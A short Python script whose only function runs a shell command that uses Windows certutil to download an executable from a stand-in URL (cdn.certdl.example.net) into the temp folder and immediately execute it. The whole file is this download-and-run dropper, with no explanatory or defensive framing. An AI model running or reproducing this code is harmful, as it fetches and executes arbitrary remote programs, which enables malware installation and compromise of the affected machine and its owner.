import os, subprocess

def main():
    env = dict(os.environ, U="https://cdn.certdl.example.net/a.exe")
    subprocess.run("certutil -urlcache -split -f %U% %TEMP%\\a.exe && %TEMP%\\a.exe", shell=True, env=env)
